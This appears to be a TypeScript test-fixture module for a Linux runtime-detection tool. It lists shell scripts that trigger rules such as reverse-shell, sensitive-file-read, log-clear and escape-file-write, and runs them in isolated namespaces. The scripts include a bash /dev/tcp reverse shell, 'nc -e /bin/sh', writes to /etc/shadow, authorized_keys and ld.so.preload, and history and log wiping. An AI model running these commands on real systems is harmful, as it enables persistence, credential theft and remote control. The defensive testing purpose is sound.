/**
 * For each rule, acts that it is to find, as scripts of a shell. They are run in namespaces of their own, where
 * /etc, /root, /tmp and some more are empty folders in memory: see {@linkcode inContainer}.
 *
 * @module
 */

/** What is done, by the rule that is to find it; `$ACT` is programs/act.c. */
export const acts: Readonly<Record<string, readonly string[]>> = {
  "account-file-write": [
    "echo x >> /etc//shadow",
    "mkdir /etc/sudoers.d; cd /etc; echo x > sudoers.d/eve",
  ],
  "authorized-keys-write": ["mkdir /root/.ssh; cd /root/.ssh; echo x >> authorized_keys"],
  "binary-directory-write": [
    "cp /bin/true /usr/local/bin/new",
    "cd /usr/local/bin; cp /bin/true new",
    "mv /tmp/shadow /usr/local/bin/../bin/new",
    "ln -s /tmp/shadow /usr/local/bin/new",
  ],
  "bpf-program": ["$ACT bpf"],
  "bulk-delete": ["mkdir /root/all; $ACT remove /root/all"],
  "connect-flood": ["$ACT again connect"],
  "data-wiper": ["shred --help"],
  "denied-storm": ["chmod 700 /root; $ACT denied /root/secret"],
  "descriptor-churn": ["$ACT again open"],
  "device-mount": ["mount -t debugfs none /mnt", "mount -t ext4 /dev/nothing /mnt"],
  "disk-device-open": [
    "$ACT device /tmp/disk",
    "mknod /tmp/disk b 7 200",
    "mkdir /tmp/dev; mount --bind /tmp/dev /dev; echo x > /dev/sdz; cat /dev/sdz",
  ],
  "dropped-executable": [
    "cp /bin/true /tmp/x; /tmp/x",
    "cd /tmp; cat /bin/true > y; chmod +x y; mv y z; ./z",
    "printf '#!/bin/sh\\nexit 0\\n' > /tmp/script; chmod 755 /tmp/script; /tmp/script",
  ],
  "escape-file-write": [
    "mkdir /tmp/cg; echo /cmd > /tmp/cg/release_agent",
    "mount --bind /tmp/shadow /proc/sys/kernel/core_pattern && echo x > /proc/sys/kernel/core_pattern",
  ],
  "etc-write": ["echo x > /etc/profile", "cd /etc; mv /tmp/shadow ./new"],
  "file-handle-open": ["$ACT handle"],
  "fileless-exec": [
    "$ACT memory",
    "cp /bin/sleep /tmp/x; exec 3< /tmp/x; rm /tmp/x; /proc/self/fd/3 0.3",
  ],
  "fork-bomb": ["$ACT again fork"],
  "interactive-shell": ["script -qec '/bin/sh -i' /dev/null < /dev/null"],
  "io-uring": ["$ACT uring"],
  "kernel-module": ["$ACT module", "rmmod -f no_such_module_here; $ACT module"],
  "library-preload-write": ["echo /tmp/x.so > /etc/ld.so.preload"],
  "log-clear": ["echo x > /var/log/wtmp; : > /var/log/wtmp", "> /var/log/x; rm /var/log/x"],
  "metadata-service": ["$ACT to 169.254.169.254 80"],
  "miner-connection": ["$ACT to 203.0.113.7 3333"],
  "miner-run": ["cp /bin/true /tmp/xmrig; /tmp/xmrig", "/bin/true -o stratum+tcp://pool:3333"],
  "mount": ["mkdir /tmp/m; mount -t tmpfs none /tmp/m", "mount --bind /tmp /mnt"],
  "namespace-enter": ["nsenter --mount=/proc/self/ns/mnt true"],
  "namespace-make": ["unshare --user true", "unshare --net true"],
  "netcat-exec": ["busybox nc -w 1 -e /bin/sh 127.0.0.1 1"],
  "network-tool": ["busybox telnet 127.0.0.1 1"],
  "odd-port": ["$ACT to 203.0.113.7 4445"],
  "package-manager": ["apt-get --help install", "dpkg --help --install"],
  "packet-socket": ["$ACT packet"],
  "port-scan": ["$ACT scan 127.0.0.1"],
  "private-key-search": ["find /tmp -name id_rsa", "grep -r 'BEGIN RSA PRIVATE KEY' /tmp"],
  "private-keys-opened": [
    "for i in 1 2 3 4 5 6; do echo x > /tmp/$i.key; done; cat /tmp/*.key",
  ],
  "proc-environ-read": ["cat /proc/1/environ"],
  "ptrace": ["$ACT trace"],
  "raw-socket": ["$ACT raw"],
  "reverse-shell": [
    "ip link set lo up; $ACT reverse 4001",
    "ip link set lo up; echo 'exit 0' | busybox nc -l -p 4002 & sleep 0.2; " +
    "bash -c 'bash -i > /dev/tcp/127.0.0.1/4002 0>&1'",
  ],
  "root-process": ["/bin/true"],
  "runtime-socket": ["$ACT unix /tmp/docker.sock", "cd /tmp; $ACT unix containerd.sock"],
  "scheduled-task-write": ["mkdir /etc/cron.d; echo x > /etc/cron.d/job", "echo x > /etc/crontab"],
  "sensitive-file-read": [
    "echo x > /etc/shadow; cat /etc//shadow",
    "echo x > /etc/shadow; cd /etc; cat shadow",
    "echo x > /etc/shadow; cd /etc/alternatives; cat ../shadow",
    "echo x > /etc/shadow; cat /proc/self/root/etc/shadow",
    "echo x > /etc/shadow; read -r line < /etc/./shadow",
  ],
  "sensitive-link": ["ln -s /etc/shadow /tmp/link", "cd /tmp; ln -s ../etc/shadow link"],
  "server-shell": ["cp $ACT /tmp/nginx; /tmp/nginx run /bin/sh -c true"],
  "setuid-bit": ["cp /bin/true /tmp/x; chmod u+s /tmp/x", "cd /tmp; cp /bin/true x; chmod 4755 x"],
  "setuid-root": ["$ACT root"],
  "shared-memory-exec": [
    "cp /bin/true /dev/shm/x; /dev/shm/x",
    "cp /bin/true /dev/shm; cd /dev/shm; ./true",
  ],
  "shell-history-clear": [
    "echo x > /root/.bash_history; rm /root/.bash_history",
    "cd /root; echo x > .bash_history; ln -sf /dev/null .bash_history",
    "> /root/.bash_history",
  ],
  "shell-startup-write": ["echo x >> /root/.bashrc", "mkdir /etc/profile.d; > /etc/profile.d/x.sh"],
  "userfaultfd": ["$ACT faults"],
};

/** Nothing of the machine's that an act may change is there: what it finds is its own. */
const folders = ["/etc", "/root", "/tmp", "/dev/shm", "/usr/local/bin", "/var/log"];

/** The command that runs an act in mount, pid and network namespaces of its own. */
export function inContainer(script: string, act: string): [string, ...string[]] {
  const prelude = [
    // As all is private from here on, nothing of it is seen outside.
    "set -e",
    // Wherever this repository lies, the program stays.
    "mount -t tmpfs none /mnt; cp $ACT /mnt/act; export ACT=/mnt/act",
    `for folder in ${folders.join(" ")}; do mount -t tmpfs none $folder; done`,
    "echo secret > /tmp/shadow; mkdir /etc/alternatives",
    "set +e",
  ].join("\n");
  const namespaces = ["--mount", "--pid", "--net", "--fork", "--mount-proc"];
  // A shell that has become pid 1 of a container, and one that it runs.
  const both = `${prelude}\n/bin/sh -c "$1" > /dev/null 2>&1; exit 0`;
  return [
    "/usr/bin/env",
    `ACT=${act}`,
    "/usr/bin/unshare",
    ...namespaces,
    "/bin/sh",
    "-c",
    both,
    "sh",
    script,
  ];
}
